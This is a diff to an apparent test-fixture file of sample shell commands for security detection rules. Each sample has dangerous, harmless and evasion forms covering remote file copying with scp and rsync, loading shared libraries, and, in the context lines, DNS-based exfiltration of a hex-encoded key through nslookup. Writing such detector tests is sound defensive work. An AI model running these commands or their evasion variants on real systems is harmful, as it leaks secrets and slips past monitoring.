@@ -121,4 +121,20 @@ export const networkSamples: RuleSample[] = [
     harmless: 'dig +short example.com; host "$1"',
     evasion: 'for l in $(xxd -p key); do nslookup $l.example.com; done',
   },
+  {
+    rule: 'bash/copy-between-hosts',
+    dangerous: 'scp build.tar user@files.example.com:/srv',
+    found: 'scp build.tar user@files.example.com:/srv',
+    severity: 'medium',
+    harmless: 'rsync -a src/ dist/; scp --help',
+    evasion: 'h=files.example.com; env rsync -r "user@$h:/srv/" in/',
+  },
+  {
+    rule: 'bash/load-library',
+    dangerous: 'openssl req -engine ./lib.so',
+    found: 'openssl req -engine ./lib.so',
+    severity: 'medium',
+    harmless: 'gcc -shared -o lib.so a.c; ls -l lib.so',
+    evasion: "bash -c 'enable -f ./lib.so x'",
+  },
 ]
